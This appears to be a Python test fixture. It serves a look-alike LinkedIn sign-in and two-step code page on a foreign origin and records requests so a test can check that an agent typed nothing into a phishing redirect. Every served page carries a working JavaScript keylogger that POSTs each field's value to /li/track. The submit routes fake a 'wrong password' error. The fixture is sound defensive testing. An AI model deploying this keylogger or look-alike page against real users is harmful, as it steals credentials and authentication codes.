"""A look-alike sign-in page on another origin, for the `foreign_login` variant (a phishing-shaped
redirect). It serves a form shaped exactly like the LinkedIn replica's `/login` (same ids, names,
classes and texts) and records every request it gets, so a test can check that nothing was typed
into it:

    site = ForeignLoginSite()
    with ReplicaServer(site.app) as foreign:          # another port = another origin
        replica.configure(foreign_login=f"{foreign.url}/login")
        ...
        assert not any(r["form"] for r in site.requests)

It also serves the two-step code page (`/checkpoint/challenge/<id>`, the `challenge_foreign`
variant) with the replica's markup, and every page it serves carries a keylogger, as phishing kits
do: whatever is typed into a text field is POSTed as JSON to `/li/track` at once, submitted or not.

`GET /__replica__/state` gives `{"requests": [...]}`; `POST /__replica__/reset` empties the list.
Each request is `{method, path, query, form, json, cookies}`, `cookies` being the cookie names only.
"""

from __future__ import annotations

import copy
import secrets
import threading
from typing import Any

from flask import Blueprint, Flask, Response, jsonify, request

from tests.replicas.server import CONTROL_PREFIX, HashedClasses, random_digits

from . import pages
from .texts import text

LANGS = ("en", "fr")
# What the look-alike does with every keystroke: sends the field's value home, typed or pasted.
KEYLOGGER = """<script>document.addEventListener('input', (event) => {
  const el = event.target;
  if (!el || !('value' in el) || el.type === 'checkbox' || el.type === 'hidden') return;
  fetch('/li/track', {method: 'POST', keepalive: true, headers: {'Content-Type': 'application/json'},
    body: JSON.stringify({field: el.name || el.id, value: el.value})});
}, true);</script>"""


def _with_keylogger(html: str) -> str:
    return html.replace("</body>", KEYLOGGER + "</body>")


class ForeignLoginSite:
    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._requests: list[dict[str, Any]] = []
        self.h = HashedClasses()
        self.url: str | None = None  # set by whoever serves the app, for the tests' convenience
        self.app = self._create_app()

    @property
    def requests(self) -> list[dict[str, Any]]:
        """Every request received so far (except the test-only endpoints), oldest first."""
        with self._lock:
            return copy.deepcopy(self._requests)

    def state(self) -> dict[str, Any]:
        return {"requests": self.requests}

    def reset(self) -> None:
        with self._lock:
            self._requests.clear()

    def _login(self, failed: bool = False) -> str:
        lang = request.accept_languages.best_match(LANGS) or "en"
        return _with_keylogger(pages.login(
            pages.Page(lang, self.h), action="/checkpoint/lg/login-submit",
            redirect=request.values.get("session_redirect", ""), csrf="ajax:" + random_digits(19),
            login_csrf=secrets.token_hex(16), email=request.form.get("session_key", ""),
            err_password=text(lang, "err_password") if failed else ""))

    def _challenge(self, cid: str = "", failed: bool = False) -> str:
        """The two-step (authenticator app) page, as the replica draws it; its form posts here."""
        lang = request.accept_languages.best_match(LANGS) or "en"
        cid = cid or request.form.get("challengeId", "")
        return _with_keylogger(pages.challenge_pin(pages.Page(lang, self.h), cid, auth_app=True,
                                                   last=random_digits(2),
                                                   error=text(lang, "wrong_pin") if failed else ""))

    def _create_app(self) -> Flask:
        app = Flask(__name__)
        app.url_map.strict_slashes = False

        @app.before_request
        def _record() -> None:
            if request.path.startswith(CONTROL_PREFIX):
                return
            entry = {"method": request.method, "path": request.path, "query": request.args.to_dict(flat=True),
                     "form": request.form.to_dict(flat=True), "json": request.get_json(silent=True),
                     "cookies": sorted(request.cookies)}
            with self._lock:
                self._requests.append(entry)

        app.add_url_rule("/login", "login", self._login, methods=["GET"])
        app.add_url_rule("/uas/login", "uas_login", self._login, methods=["GET"])
        # What a look-alike does with a submitted form: "wrong password", and keep what was typed.
        app.add_url_rule("/checkpoint/lg/login-submit", "submit", lambda: self._login(failed=True),
                         methods=["POST"])
        app.add_url_rule("/checkpoint/challenge/<cid>", "challenge", self._challenge, methods=["GET"])
        app.add_url_rule("/checkpoint/challenge/verify", "verify", lambda: self._challenge(failed=True),
                         methods=["POST"])
        app.add_url_rule("/li/track", "track", lambda: ("", 204), methods=["POST"])

        bp = Blueprint("foreign_control", __name__, url_prefix=CONTROL_PREFIX)

        @bp.get("/state")
        def state() -> Response:
            return jsonify(self.state())

        @bp.post("/reset")
        def reset() -> Response:
            self.reset()
            return jsonify(self.state())

        app.register_blueprint(bp)
        return app


__all__ = ["ForeignLoginSite"]
